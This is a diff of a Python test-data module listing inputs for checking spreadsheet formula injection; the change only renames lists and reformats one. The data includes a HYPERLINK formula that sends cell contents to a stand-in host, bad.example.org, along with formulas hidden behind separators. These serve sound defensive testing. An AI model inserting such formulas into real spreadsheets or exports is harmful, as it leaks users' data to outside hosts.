@@ -1,6 +1,6 @@
 """Texts that people type into a form to see what a spreadsheet makes of them."""
 
-RUNS = [
+FORMULAS = [
     '=HYPERLINK("http://bad.example.org?"&A1,"Click")',
     "=1+1",
     "+31 6 1234 5678",
@@ -17,7 +17,7 @@ RUNS = [
 ]
 """A spreadsheet would run these as formulas."""
 
-HIDDEN = ["tea;=1+1", ";=1+1", "tea\t@SUM(A1)", "tea; +1", "tea ;  -1"]
+HIDDEN_FORMULAS = ["tea;=1+1", ";=1+1", "tea\t@SUM(A1)", "tea; +1", "tea ;  -1"]
 """A spreadsheet that splits lines elsewhere would find a formula in these."""
 
 HARMLESS = [
@@ -57,5 +57,11 @@ HARMLESS = [
 ]
 """These are what they are."""
 
-CONTROLS = ["a\x01b", "bell\x07", "\x1b[31mred", "form\x0cfeed", "\ufffe\uffff"]
+CONTROL_CHARACTERS = [
+    "a\x01b",
+    "bell\x07",
+    "\x1b[31mred",
+    "form\x0cfeed",
+    "\ufffe\uffff",
+]
 """XML can't hold these as they are."""
